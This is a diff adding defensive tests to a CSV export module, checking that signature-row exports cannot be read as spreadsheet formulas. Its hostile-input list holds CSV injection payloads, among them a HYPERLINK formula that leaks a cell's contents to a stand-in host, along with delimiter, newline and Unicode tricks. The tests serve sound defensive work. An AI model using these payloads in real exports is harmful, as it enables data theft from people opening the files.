@@ -1,5 +1,8 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { csvCell, csvRow } from "./csv";
+import { cellsReadBy, readers, runsAsFormula } from "@/test/spreadsheet";
+import { csvCell, csvRow, utf8Bom } from "./csv";
+import { signatureRow } from "./signature-row";
 
 describe("csvCell", () => {
   it("leaves plain text as it is", () => {
@@ -60,5 +63,44 @@ describe("signatureRow", () => {
         "confirmed",
       ]),
     );
+  });
+});
+
+const hostile = [
+  'Ann;=HYPERLINK("http://x.example/?"&C2)',
+  "Ann;=1+1",
+  "Ann\t=1+1",
+  "Ann; \u200B+cmd",
+  'Ann;"=1+1"',
+  "Ann;\t@SUM(A1)",
+  "Ann;＝1",
+  "first line\n=1+1",
+  "first line\r\n-1+1",
+  "Saleh, Raed;=1",
+];
+
+describe("every export read by a spreadsheet that splits on , ; or tab", () => {
+  it.each(readers)("finds no cell that runs as a formula (split on %j)", (reader) => {
+    const rows = hostile.map((name, i) => signatureRow([i, Date.UTC(2024, 0, 1), name, "a@example.org", "SY", name, 1, 0, "confirmed"]));
+    const text = utf8Bom + csvRow(["Name", ...hostile]) + rows.join("");
+    const cells = cellsReadBy(reader, text);
+    expect(cells.length).toBeGreaterThan(hostile.length);
+    expect(cells.filter(runsAsFormula)).toEqual([]);
+  });
+
+  it("finds none whatever the free text holds (property)", () => {
+    const unit = fc.constantFrom("a", " ", ";", "\t", "\r", "\n", ",", '"', "'", "=", "+", "-", "@", "＝", "\u200B", "\u00A0");
+    const text = fc.string({ unit, maxLength: 12 });
+    fc.assert(
+      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
+        const csv = utf8Bom + csvRow(["x", ...cells]) + signatureRow([1, 0, cells[0]!, "a@example.org", "SY", cells.at(-1)!, 0, 0, "confirmed"]);
+        for (const reader of readers) expect(cellsReadBy(reader, csv).filter(runsAsFormula)).toEqual([]);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+
+  it("keeps the text as typed for the reader it was written for, but for the guard's apostrophes", () => {
+    expect(cellsReadBy(readers[0], csvRow(["Ann;=1", "line\n=2", "a; b\tc"]))).toEqual(["Ann;'=1", "line\n'=2", "a; b\tc"]);
   });
 });
